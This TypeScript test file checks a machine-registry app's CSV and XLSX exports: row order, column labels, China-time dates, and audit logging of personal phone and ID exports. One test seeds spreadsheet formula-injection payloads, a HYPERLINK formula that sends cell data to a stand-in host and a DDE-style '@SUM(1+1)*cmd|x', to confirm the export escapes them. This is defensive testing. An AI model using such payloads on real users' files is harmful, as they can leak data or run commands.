import { beforeAll, describe, expect, it } from 'vitest'
import { exportRoutes } from '@/lib/features/export/routes'
import { machineRoutes } from '@/lib/features/machine/routes'
import { MACHINE_COLUMN_LABELS, MACHINE_COLUMNS } from '@/lib/features/machine/schema/columns'
import { type MachineRow, machineSearchPage } from '@/lib/features/machine/schema/search'
import { db } from '@/lib/server/database/db'
import { encrypt } from '@/lib/server/secrets/secrets'
import { callRoute } from '@/testing/call-route'
import { exportDesk, rowsOf } from '@/testing/export-desk'
import { makeManyMachines } from '@/testing/many-machines'
import { type StaffSession, staffSession } from '@/testing/staff-session'
import { runExport } from './commands/run'
import type { MachineExport } from './schema'

const { downloadExport: getFile, getExport: getOne, startExport: start } = exportRoutes
const { searchMachines: search } = machineRoutes

const { exported } = exportDesk<MachineExport>({
  start,
  getOne,
  getFile,
  run: runExport,
  columns: MACHINE_COLUMNS,
})
const sessions: Record<string, StaffSession> = {}
const session = (area: string) => sessions[area] ?? Promise.reject(new Error(area))

beforeAll(async () => {
  await makeManyMachines(db(), 2_500)
  for (const area of ['000000', '110000', '130200', '130202'])
    sessions[area] = await staffSession(db(), 'SUPERVISOR', area)
})

type Query = Record<string, string>

/** All pages of the search page. */
async function pagesOf(area: string, query: Query): Promise<MachineRow[]> {
  const rows: MachineRow[] = []
  const { headers } = await session(area)
  for (let cursor: string | undefined; ; ) {
    const { body } = await callRoute(search, {
      headers,
      query: { limit: '100', ...query, ...(cursor ? { cursor } : {}) },
    })
    const page = machineSearchPage.parse(body)
    rows.push(...page.data)
    if (page.nextCursor === null) return rows
    cursor = page.nextCursor
  }
}

const SEARCHES: [string, Query][] = [
  ['000000', { categoryCode: 'CRANE', stage: '3' }],
  ['000000', { sort: 'number', fuelCode: 'ELECTRIC', placeCode: 'PORT', status: 'REVOKED' }],
  ['000000', { madeIn: '2015', from: '2020-03-01', to: '2021-06-30' }],
  ['110000', {}],
  ['110000', { sort: 'registeredAt', q: '建筑' }],
  ['110000', { sort: '-number', q: '鑫建筑工程' }],
  ['130200', { q: 'sd-1600 1' }],
  ['130200', { districtCode: '130202', q: 'WP000', stage: '2' }],
  ['130200', { q: '京A·000' }],
  ['130202', { sort: 'number' }],
  ['130202', { districtCode: '110101' }],
  // Looks like a number and is a part of one.
  ['000000', { q: '00000077' }],
  ['000000', { q: '13900000001' }],
]

describe('the rows of the file are those of the search page, in their order', () => {
  it.each(SEARCHES)('in %s, %j', async (area, query) => {
    const expected = await pagesOf(area, query)
    const { madeIn, ...rest } = query
    const request = { search: { ...rest, ...(madeIn ? { madeIn: Number(madeIn) } : {}) } }
    const columns = ['registrationNumber', 'machineSerial']
    for (const format of ['XLSX', 'CSV'] as const) {
      const { row, bytes } = await exported(await session(area), { ...request, format, columns })
      expect(row).toMatchObject({ status: 'DONE', doneRows: expected.length, totalRows: expected.length })
      expect(row.bytes).toBe(bytes.length)
      expect(await rowsOf(bytes)).toEqual([
        [MACHINE_COLUMN_LABELS.registrationNumber, MACHINE_COLUMN_LABELS.machineSerial],
        ...expected.map(({ registrationNumber, machineSerial }) => [registrationNumber, machineSerial]),
      ])
    }
  })
})

it('holds every column under the page’s words, days as days', async () => {
  const [first, ...others] = await pagesOf('130202', { categoryCode: 'CRANE' })
  const request = { search: { categoryCode: 'CRANE' } }
  const csv = await exported(await session('130202'), { ...request, format: 'CSV' })
  const [head, row, ...rest] = await rowsOf(csv.bytes)
  expect(head).toEqual(MACHINE_COLUMNS.map((key) => MACHINE_COLUMN_LABELS[key]))
  expect(rest).toHaveLength(others.length)
  const cell = (key: (typeof MACHINE_COLUMNS)[number]) => row?.[MACHINE_COLUMNS.indexOf(key)]
  expect(cell('category')).toBe('起重机')
  expect(cell('status')).toMatch(/^有效|已注销|已撤销$/)
  expect(cell('district')).toBe('河北省 唐山市 路南区')
  expect(cell('machineEnvCode')).toBe(first?.machineEnvCode)
  expect(csv.bytes.toString()).toContain(`${first?.machineEnvCode}\t`)
  expect(cell('owner')).toBe(first?.ownerName)
  expect(cell('registeredAt')).toMatch(/^20\d\d-\d\d-\d\d \d\d:\d\d:\d\d$/)

  const xlsx = await exported(await session('130202'), { ...request, format: 'XLSX' })
  const [, same] = await rowsOf(xlsx.bytes)
  const at = MACHINE_COLUMNS.indexOf('registeredAt')
  expect(same?.[MACHINE_COLUMNS.indexOf('machineEnvCode')]).toBe(first?.machineEnvCode)
  // Excel has no time zones: the cell has the date and time in China.
  const excel = same?.[at] instanceof Date ? same[at].getTime() : 0
  const china = Date.parse(first?.registeredAt ?? '') + 8 * 3_600_000
  expect(Math.abs(excel - china)).toBeLessThan(1_000)
})

it('runs nothing that somebody has written into a field', async () => {
  const evil = { brand: '=HYPERLINK("http://x/?"&A1,"看")', model: '@SUM(1+1)*cmd|x', manufacturer: '+1+1' }
  const machine = await db().machine.findFirstOrThrow({ where: { cityCode: '130200' } })
  const content = JSON.parse(JSON.stringify(machine.content))
  Object.assign(content.machine, evil, { name: '-2+3' })
  await db().machine.update({ where: { id: machine.id }, data: { content } })
  const columns = ['name', 'brand', 'model', 'manufacturer']
  const search = { q: machine.machineSerial ?? '' }
  const csv = await exported(await session('130200'), { format: 'CSV', columns, search })
  // In the file there is an apostrophe; read back, it is not part of the text.
  expect((await rowsOf(csv.bytes))[1]).toEqual(['-2+3', evil.brand, evil.model, evil.manufacturer])
  for (const text of ['-2+3', evil.brand, evil.model, evil.manufacturer])
    expect(csv.bytes.toString()).toContain(`'${text.replaceAll('"', '""')}`)
  const xlsx = await exported(await session('130200'), { format: 'XLSX', columns, search })
  expect((await rowsOf(xlsx.bytes))[1]).toEqual(['-2+3', evil.brand, evil.model, evil.manufacturer])
})

describe('phones and ID numbers', () => {
  beforeAll(async () => {
    for (const { id } of await db().account.findMany({ select: { id: true } }))
      await db().account.update({
        where: { id },
        data: {
          idNumber: encrypt('account.idNumber', id, '11010519491231002X'),
          phone: encrypt('account.phone', id, '13900000009'),
          phoneIndex: `phone-${id}`,
        },
      })
  })

  it('come on request, to who may, on record', async () => {
    const columns = ['registrationNumber']
    const search = { stage: 'D' }
    const { id, row, bytes } = await exported(await session('130202'), { columns, personal: true, search })
    expect(row.personal).toBe(true)
    const [head, ...rows] = await rowsOf(bytes)
    expect(head).toEqual(['登记号码', '所有者电话', '所有者证件号码'])
    expect(rows.length).toBeGreaterThan(10)
    for (const cells of rows) expect(cells.slice(1)).toEqual(['13900000009', '11010519491231002X'])
    const events = await db().auditEvent.findMany({ where: { subjectId: id }, orderBy: { id: 'asc' } })
    expect(events.map(({ action, details }) => ({ action, details }))).toMatchObject([
      {
        action: 'export.start',
        details: { personal: true, accessPurpose: 'INSPECTION', conditions: { stage: 'D' } },
      },
      { action: 'export.finish', details: { personal: true, rows: rows.length } },
      { action: 'export.download', details: { personal: true, rows: rows.length } },
    ])
  })
})
